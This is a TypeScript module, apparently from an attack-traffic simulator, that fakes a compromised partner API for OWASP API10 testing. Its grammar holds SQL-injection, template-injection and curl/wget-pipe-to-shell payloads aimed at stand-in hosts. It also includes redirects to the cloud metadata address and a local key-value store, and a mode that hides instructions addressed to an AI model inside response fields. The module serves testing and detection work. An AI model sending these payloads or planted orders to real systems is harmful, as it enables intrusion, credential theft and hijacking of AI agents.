import { defineAttack } from '../world/attack.ts'
import { type Rules, sentence } from '../world/grammar.ts'
import type { Answer, JsonObject } from '../world/http.ts'
import { word } from '../world/names.ts'
import { dropAddress, hiddenIn, orderToModel } from '../world/persuasion.ts'
import type { Stream } from '../world/stream.ts'

const rules: Rules = {
  start: [
    "‹n›' UNION SELECT ‹name›,secret FROM staff-- -",
    "' OR '‹n›'='‹n›",
    '$(curl http://‹name›.evil.example/‹hex› | sh)',
    '; wget http://‹ip›/‹hex› -O- | sh',
    '{{config.items()}}',
    "{{''.__class__.__mro__[‹n›].__subclasses__()}}",
  ],
}

/** Who answers is somebody else now, or was made to: the workload asks as it always does. */
export default defineAttack({
  id: 'third-party-response',
  title: "a partner's answers carry what harms whoever believes them",
  owasp: ['API10:2023'],
  supports: ({ surface }) => surface.partner !== undefined,
  *play(attack) {
    const { app, stream } = attack
    const { partner } = app.surface
    if (partner === undefined) return
    const way = stream.pick(
      attack.by({
        loud: ['payload', 'redirect'],
        medium: ['payload', 'order'],
        stealthy: ['order', 'redirect'],
      } as const),
    )
    for (let left = attack.count({ loud: 40, medium: 14, stealthy: 4 }); left > 0; left -= 1) {
      const client = attack.client(partner.device, partner.network)
      client.partner = partner.partner
      if (attack.level === 'stealthy') yield* client.send(partner.usual(stream))
      client.twist = answer => hostile(answer, way, stream)
      yield* attack.act(client, partner.usual(stream), () => true)
      yield* attack.pause({ loud: 900, medium: 10 * 60_000, stealthy: 9 * 3_600_000 })
    }
  },
})

function hostile(answer: Answer, way: 'payload' | 'redirect' | 'order', stream: Stream): Answer {
  if (way === 'redirect') {
    const location = stream.pick([
      'http://169.254.169.254/latest/meta-data/',
      `https://${word(stream)}-${word(stream)}.example/v2/lookup`,
      'http://127.0.0.1:8500/v1/kv',
    ])
    return { ...answer, status: 302, headers: [['location', location]], text: '', json: {} }
  }
  const fields = Object.entries(answer.json).filter(([, value]) => typeof value === 'string')
  const [name] = way === 'order' ? ['summary'] : (stream.pick(fields) ?? ['name'])
  const words =
    way === 'order'
      ? hiddenIn(stream, orderToModel(stream, true, dropAddress(stream)))
      : sentence(stream, rules)
  const json: JsonObject = { ...answer.json, [name ?? 'name']: words }
  return { ...answer, json, text: JSON.stringify(json) }
}
